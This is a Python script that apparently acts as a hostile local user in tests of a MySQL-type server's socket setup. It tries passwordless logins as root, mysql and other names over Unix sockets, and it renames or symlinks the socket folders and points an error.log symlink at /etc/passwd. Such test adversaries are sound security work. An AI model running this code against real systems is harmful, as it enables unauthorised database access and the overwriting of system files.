"""Another user of the machine, who wants to be in before the door is closed.

Run as that user: `python intruder.py FOLDER PATH...`. It says "ready", hammers until its standard
input ends, and then says in JSON what it achieved. FOLDER is a server's home; the paths are those
at which sockets appear.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import struct
import sys
from collections import Counter
from collections.abc import Callable
from functools import partial
from pathlib import Path

_NAMES = ("waltax", "root", "mysql", "")
_PROTOCOL_41, _SECURE, _PLUGINS = 0x200, 0x8000, 0x80000


def main(folder: str, paths: list[str]) -> None:
    seen: Counter[str] = Counter({"connections": 0, "logins": 0, "entered": 0, "placed": 0})
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], 0)[0]:
        for path in paths:
            _try(path, seen)
        _meddle(folder, paths, seen)
    print(json.dumps(seen))


def _try(path: str, seen: Counter[str]) -> None:
    for name in _NAMES:
        door = socket.socket(socket.AF_UNIX)
        door.settimeout(20)
        seen["tries"] += 1
        try:
            door.connect(path)
        except OSError as error:
            seen[f"connect: {error.strerror}"] += 1
            return
        seen["connections"] += 1
        with door, contextlib.suppress(OSError, IndexError):
            seen["logins"] += _logs_in(door, name)


def _logs_in(door: socket.socket, name: str) -> bool:
    """Without a password, whatever way of proving who we are the server asks for."""
    _packet(door)  # its greeting
    head = struct.pack("<IIB23x", _PROTOCOL_41 | _SECURE | _PLUGINS, 1 << 24, 33)
    _send(door, 1, head + name.encode() + b"\0\0mysql_native_password\0")
    number, answer = _packet(door)
    if answer[0] == 0xFE:
        _send(door, number + 1, b"")
        answer = _packet(door)[1]
    return answer[0] == 0


def _packet(door: socket.socket) -> tuple[int, bytes]:
    head = door.recv(4, socket.MSG_WAITALL)
    return head[3], door.recv(int.from_bytes(head[:3], "little"), socket.MSG_WAITALL)


def _send(door: socket.socket, number: int, what: bytes) -> None:
    door.sendall(len(what).to_bytes(3, "little") + bytes([number]) + what)


def _meddle(folder: str, paths: list[str], seen: Counter[str]) -> None:
    """Enter the sockets' folders, put a folder or a link in their place, and files in the home."""
    for inner in {Path(path).parent for path in paths} - {Path(folder)}:
        _done(seen, "entered", partial(os.listdir, inner))
        _done(seen, "placed", inner.mkdir)
        _done(seen, "placed", partial(inner.rename, f"{inner}.old"))
        _done(seen, "placed", partial(inner.symlink_to, "/tmp"))
    _done(seen, "placed", partial(Path(folder, "error.log").symlink_to, "/etc/passwd"))


def _done(seen: Counter[str], what: str, act: Callable[[], object]) -> None:
    with contextlib.suppress(OSError):
        act()
        seen[what] += 1


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2:])
